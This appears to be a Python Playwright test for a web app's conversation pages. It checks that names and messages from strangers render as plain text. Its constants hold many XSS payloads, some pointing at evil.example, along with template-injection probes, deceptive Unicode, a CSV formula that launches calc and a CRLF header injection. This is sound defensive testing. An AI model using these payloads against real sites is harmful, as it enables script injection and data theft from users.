"""People may call themselves anything and write anything: on our pages it stays text."""

import sqlite3
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from stamgast.networks.adapters.loopback import notes
from stamgast.networks.adapters.loopback.file import writing
from stamgast.vocabulary.objects import Actor
from tests.journeys.conftest import Demo

pytestmark = pytest.mark.journey

RUN = "window.pwned=1"
TAGS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>", f"<math><mtext></form><img src onerror={RUN}></math>",
    "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Send</button></form>",
    "</bdi></p></li></ol></main><h1>Owned</h1>",
    f"<video><source onerror={RUN}></video>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    "<div hx-get='//evil.example' hx-trigger='load'>",
    f"<div data-hx-on:load='{RUN}'>", f"<p hx-on::load='{RUN}'>",
    "<img src=//evil.example/pixel.gif>", "<!--<img src='--><img src=x onerror=window.pwned=1//'>",
    f"\"><script>{RUN}</script>", f"' onmouseover='{RUN}", f"\" autofocus onfocus=\"{RUN}", f"`${{{RUN}}}`",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", "{% include 'ui/base.html' %}", "{{ request.user.password }}", "${7*7}",
    "%(name)s %(nothing)s %d %s", "{0.__class__}", "<%= 7*7 %>", "#{7*7}", "%n%x%%",
]  # fmt: skip
LETTERS = [
    "\u202egnp.exe\u202c", "\u2066\u2067evil\u2069", "a\u0300" * 400, "\u200b" * 300, "\ufeffhidden",
    "ZALGO " + "z\u0335\u0321\u034e" * 120, "W" * 3_000,
    "🏳️‍🌈" * 300, "\x00\x07\x1b[31mred", "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b", "مرحبا بالعالم" * 40, "𝕳𝖊𝖑𝖑𝖔", "\u202e\u202e\u202e", "\ud83d alone",
]  # fmt: skip
LINKS = [
    "javascript:window.pwned=1",
    "data:text/html,<script>1</script>",
    "//evil.example",
    "https://evil.example/" + "a" * 2_000,
]
PAYLOADS = [*TAGS, *TEMPLATES, *LETTERS, *LINKS]
OURS = (
    "SELECT id FROM notes WHERE by_id = account AND in_reply_to IS NULL AND deleted = 0"
    " ORDER BY id DESC LIMIT 1"
)


def speak(folder: Path) -> None:
    """Let each payload be somebody's name and words: in a row of conversations, and all in one of them."""
    with writing(folder / "loopback.sqlite3") as db:
        post = str(db.execute(OURS).fetchone()["id"])
        parent = post
        for number, payload in enumerate(PAYLOADS):
            parent = _say(db, payload, number, parent)
            if number % 4 == 0:
                _say(db, payload, number, post)


def _say(db: sqlite3.Connection, payload: str, number: int, parent: str) -> str:
    at = datetime.now(UTC) - timedelta(seconds=600 - number)
    words = payload.encode("utf-8", "replace").decode()
    actor = Actor(f"guest{number}", words[:180] or "?", words[:60])
    account = db.execute("SELECT account FROM notes WHERE id = ?", (parent,)).fetchone()["account"]
    said = notes.Said(account=account, by=actor, text=words or "?", published=at, visible_at=at,
                      in_reply_to=parent, livened=True)  # fmt: skip
    return str(notes.add(db, said)["id"])


def test_what_strangers_write_stays_text(demo: Demo, sign_in: Callable[..., Page]) -> None:
    page = sign_in()
    strange: list[str] = []
    origin = demo.url.partition("/w/")[0]
    page.on("dialog", lambda dialog: strange.append(dialog.message))
    page.on("request", lambda r: strange.append(r.url) if not r.url.startswith((origin, "data:")) else None)
    speak(Path(demo.environment["STAMGAST_DATA_DIR"]))

    page.goto(demo.url + "conversations/?view=all")
    expect(page.locator("#rows")).to_contain_text("<script>window.pwned", timeout=60_000)
    for address in ("conversations/?view=all", "people/", "", "conversations/?view=waiting"):
        page.goto(demo.url + address)
        assert_unharmed(page)
    page.goto(demo.url + "conversations/?view=all")
    links = [link.get_attribute("href") for link in page.locator("#rows .list-item a").all()[:18]]
    for link in links:
        page.goto(origin + str(link))
        assert_unharmed(page)
    assert strange == []


def assert_unharmed(page: Page) -> None:
    """Nothing ran, nothing foreign became an element, and the page is as wide as the window."""
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None, page.url
    foreign = page.locator("main :is(script, iframe, object, embed, base, meta, style, form[action*=evil])")
    assert foreign.count() == 0, page.url
    assert page.locator("main a[href^='javascript:'], main a[href^='data:']").count() == 0, page.url
    assert page.locator("h1").count() == 1, page.url
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), page.url
